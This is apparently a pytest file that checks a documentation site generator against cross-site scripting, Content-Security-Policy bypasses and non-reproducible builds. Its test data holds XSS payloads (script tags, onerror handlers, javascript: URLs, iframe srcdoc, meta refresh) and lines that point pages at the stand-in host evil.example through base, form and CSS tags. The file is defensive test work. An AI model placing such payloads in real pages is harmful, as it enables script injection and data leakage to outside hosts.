"""Hostile pages the policy lets through, because they are legal content, are harmless in Chromium;
a script injected into built HTML is blocked by the Content-Security-Policy; two builds are identical.

Each payload tries to set `window.__pwned` or open a dialog; either fails the test.
"""

from __future__ import annotations

import hashlib
import shutil
from pathlib import Path

import pytest

from fixture_site import add_to_nav, build_fixture, make_fixture_site, write
from redsite.search_index import read_fragments

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
PAYLOAD = "window.__pwned=1;alert(1)"
# Legal pages whose text carries markup, entities or quotes that must reach the reader as text.
RENDERED_CASES = {
    "entity-heading-title": "# &lt;/title&gt;&lt;script&gt;window.__pwned=1&lt;/script&gt;\n\nText.\n",
    "entity-heading-img": "# &lt;img src=x onerror=window.__pwned=1&gt;\n\nText.\n",
    "raw-html-heading": "# Title <img src=x onerror=\"window.__pwned=1\">\n\nText.\n",
    "broken-tag-heading": "# x <img src=x onerror=window.__pwned=1 \n\nText.\n",
    "entity-front-matter-title":
        "---\ntitle: '&lt;/title&gt;&lt;script&gt;window.__pwned=1&lt;/script&gt;'\n---\n\nText.\n",
    "quote-description":
        "---\ntitle: Quotes\ndescription: 'x\" http-equiv=\"refresh\" content=\"0;url=javascript:window.__pwned=1'\n"
        "---\n\nText.\n",
    "script-in-body": "# Body\n\n<script>window.__pwned=1;alert(1)</script>\n\n<svg><script>alert(1)</script></svg>\n",
    "event-handlers":
        "# Events\n\n<p onmouseover=\"window.__pwned=1\">x</p>\n\n[a](javascript:window.__pwned=1)\n\n"
        "<a href=\"jAvAsCrIpT:alert(1)\">b</a>\n\n<details open ontoggle=\"window.__pwned=1\">d</details>\n",
    "entities-in-body":
        "# Entities\n\n&lt;img src=x onerror=window.__pwned=1&gt; and &#60;script&#62;alert(1)&#60;/script&#62;\n",
    "attr-list-injection":
        "# Attr\n\nText {: onclick=\"window.__pwned=1\" }\n\n![x](pic.png){: onerror=\"window.__pwned=1\" }\n",
    "iframe-srcdoc": "# Frame\n\n<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>\n",
    "meta-refresh-body": "# Meta\n\n<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">\n",
    "base-tag": "# Base\n\n<base href=\"https://evil.example/\">\n\n[link](index.md)\n",
    "form-action": "# Form\n\n<form action=\"https://evil.example/\"><input name=q><button>Go</button></form>\n",
    "style-exfiltration": "# Style\n\n<style>body{background:url(https://evil.example/x)}</style>\n",
}


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory, site_address):
    root = make_fixture_site(tmp_path_factory.mktemp("rendered") / "repo")
    for name, text in RENDERED_CASES.items():
        write(root, f"docs/{name}.md", text)
    add_to_nav(root, [f"{name}.md" for name in RENDERED_CASES])
    write(root, "docs/pic.png", b"\x89PNG\r\n\x1a\n")
    build = build_fixture(root, site_url=site_address)
    assert build.returncode == 0, build.log[-4000:]
    return build




def _visit(browser, url: str, before=None) -> dict:
    context = browser.new_context()
    page = context.new_page()
    seen = {"dialogs": [], "console": [], "violations": [], "requests": []}
    page.on("dialog", lambda dialog: (seen["dialogs"].append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: seen["console"].append(message.text))
    page.on("request", lambda request: seen["requests"].append(request.url))
    page.add_init_script("document.addEventListener('securitypolicyviolation',"
                         " e => (window.__violations = window.__violations || []).push(e.violatedDirective))")
    page.goto(url)
    if before:
        before(page)
    page.wait_for_timeout(300)
    seen["pwned"] = page.evaluate("window.__pwned === 1")
    seen["violations"] = page.evaluate("window.__violations || []")
    seen["title"] = page.title()
    seen["url"] = page.url
    context.close()
    return seen


@pytest.mark.parametrize("name", sorted(RENDERED_CASES))
def test_hostile_page_is_harmless_in_chromium(hostile_site, site_server, browser, name):
    with site_server.serving(hostile_site.site) as url:  # behaves like GitHub Pages
        seen = _visit(browser, f"{url}{name}/")
    assert seen["dialogs"] == [] and not seen["pwned"], seen
    assert seen["url"].startswith(site_server.origin), "the page redirected the reader away"
    assert all(url.startswith(site_server.origin) for url in seen["requests"]), seen["requests"]


def test_entity_title_stays_text(hostile_site):
    html = (hostile_site.site / "entity-heading-title" / "index.html").read_text(encoding="utf-8")
    title = html[html.index("<title>"):html.index("</title>") + 8]
    assert title == "<title>&lt;/title&gt;&lt;script&gt;window.__pwned=1&lt;/script&gt; - RED knowledge site</title>"
    home = (hostile_site.site / "index.html").read_text(encoding="utf-8")
    nav = home[home.index('<nav class="md-nav md-nav--primary"'):]
    assert "&lt;/title&gt;&lt;script&gt;window.__pwned=1&lt;/script&gt;" in nav  # the nav shows it as text
    assert "<script>window.__pwned" not in home and "<img src=x onerror" not in home
    described = (hostile_site.site / "quote-description" / "index.html").read_text(encoding="utf-8")
    assert 'content="x&quot; http-equiv=&quot;refresh&quot;' in described


def test_search_for_a_payload_runs_nothing(hostile_site, site_server, browser):
    # Pagefind indexes the pages' text, so escaped markup is in the index as text: the results must show
    # it as text too. Make sure the query below really brings such excerpts on screen.
    indexed = [page for pages in read_fragments(hostile_site.site / "pagefind").values() for page in pages]
    assert any("<script>" in page["content"] and "pwned" in page["content"] for page in indexed)
    def search(page):
        page.wait_for_load_state("networkidle")
        page.click("header [data-red-search-open]")
        page.wait_for_selector("pagefind-modal dialog[open] input[type=search]")
        page.fill("pagefind-modal input[type=search]", "pwned")
        page.wait_for_selector("pagefind-results .pf-result-link", timeout=15000)
        page.wait_for_function("() => [...document.querySelectorAll('pagefind-results .pf-result')]"
                               ".some(result => result.textContent.includes('<script>'))", timeout=15000)

    with site_server.serving(hostile_site.site) as url:  # behaves like GitHub Pages
        seen = _visit(browser, url, before=search)
    assert seen["dialogs"] == [] and not seen["pwned"] and seen["violations"] == [], seen


def test_csp_blocks_a_script_injected_into_built_html(hostile_site, site_server, browser, tmp_path):
    site = tmp_path / "site"
    shutil.copytree(hostile_site.site, site)
    page_file = site / "index.html"
    html = page_file.read_text(encoding="utf-8")
    assert '<meta http-equiv="Content-Security-Policy"' in html and "unsafe-inline" not in html
    injected = (f"<script>{PAYLOAD}</script><img src=x onerror=\"{PAYLOAD}\">"
                f"<a id=js href=\"javascript:{PAYLOAD}\">x</a>")
    page_file.write_text(html.replace("</article>", injected + "</article>", 1), encoding="utf-8")
    with site_server.serving(site) as url:  # behaves like GitHub Pages
        seen = _visit(browser, url,
                      before=lambda page: page.click("#js", force=True))
    assert seen["dialogs"] == [] and not seen["pwned"], seen
    assert "script-src-elem" in seen["violations"] or "script-src" in seen["violations"], seen


@pytest.mark.parametrize("path", ["", "sv/", "ru/", "entity-heading-title/", "404.html", "ru/404.html"])
def test_normal_pages_raise_no_csp_violation(hostile_site, site_server, browser, path):
    with site_server.serving(hostile_site.site) as url:  # behaves like GitHub Pages
        seen = _visit(browser, f"{url}{path}")
    assert seen["violations"] == [], seen
    assert not [text for text in seen["console"] if "Content Security Policy" in text], seen["console"]


def _digests(site: Path) -> dict[str, str]:
    return {path.relative_to(site).as_posix(): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in sorted(site.rglob("*")) if path.is_file()}


def test_two_builds_are_byte_identical(hostile_site, tmp_path):
    """Every file, sitemap.xml.gz included: its gzip header carries SOURCE_DATE_EPOCH, not the clock."""
    root = hostile_site.site.parent
    first = build_fixture(root, tmp_path / "one", {"SOURCE_DATE_EPOCH": "1700000000"}, site_url=hostile_site.site_url)
    second = build_fixture(root, tmp_path / "two", {"SOURCE_DATE_EPOCH": "1700000000"}, site_url=hostile_site.site_url)
    assert first.returncode == second.returncode == 0
    one, two = _digests(first.site), _digests(second.site)
    assert "sitemap.xml.gz" in one and len(one) > 20
    assert one == two, [name for name in one if one[name] != two.get(name)]
    assert (first.site / "sitemap.xml.gz").read_bytes()[4:8] == (1700000000).to_bytes(4, "little")


@pytest.mark.parametrize("path", ["", "methods/forum-building/", "sv/glossary/", "ru/context/baltic-initiatives/",
                                  "study-visits/", "sv/404.html"])
def test_real_site_pages_raise_no_csp_violation(built_site, served_site, browser, path):
    seen = _visit(browser, served_site + path)  # behind the Pages-like server
    assert seen["violations"] == [] and not [text for text in seen["console"] if "Content Security Policy" in text]
    html = (built_site.site / (path or "index.html") / ("index.html" if path.endswith("/") else "")).read_text(
        encoding="utf-8")
    assert '<meta http-equiv="Content-Security-Policy"' in html and "unsafe-inline" not in html
